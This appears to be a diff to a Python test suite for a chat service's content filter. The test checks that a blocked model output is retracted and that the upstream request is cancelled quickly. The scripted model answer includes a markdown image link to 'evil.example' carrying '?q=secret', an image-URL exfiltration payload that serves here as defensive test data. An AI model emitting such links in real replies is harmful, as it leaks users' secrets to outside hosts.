@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 import io
+import time
 
 import pytest
 from PIL import Image
@@ -125,7 +126,11 @@ async def test_input_block_never_reaches_the_model(service, upstream, store) -> 
 async def test_output_block_cancels_upstream_and_retracts(service, upstream, store) -> None:  # noqa: ANN001
     upstream.push(Script(answer=["Sure, here it is: ", "![x](https://evil.example/?q=secret)", " and more"],
                          endless=True, delay_s=0.01))
-    events = await run(service, text="Show me a picture")
+    events, blocked_at = [], None
+    async for event in service.run_turn(TurnRequest(owner="alice", text="Show me a picture")):
+        events.append(event)
+        if isinstance(event, Retract):
+            blocked_at = time.monotonic()
     result = done(events)
     assert result.status == "blocked" and result.finish_reason == "content_filter"
     assert any(isinstance(e, Retract) for e in events)
@@ -133,6 +138,7 @@ async def test_output_block_cancels_upstream_and_retracts(service, upstream, sto
     record = upstream.requests[0]
     await asyncio.sleep(0.3)
     assert record.disconnected is not None, "the upstream request was not cancelled"
+    assert record.disconnected - blocked_at < 0.1  # the upstream saw the disconnect within 100 ms
     stored = store.messages(events[0].session_id)[-1]
     assert stored.status == "blocked"
     assert "evil.example" in stored.content  # kept for reviewers only
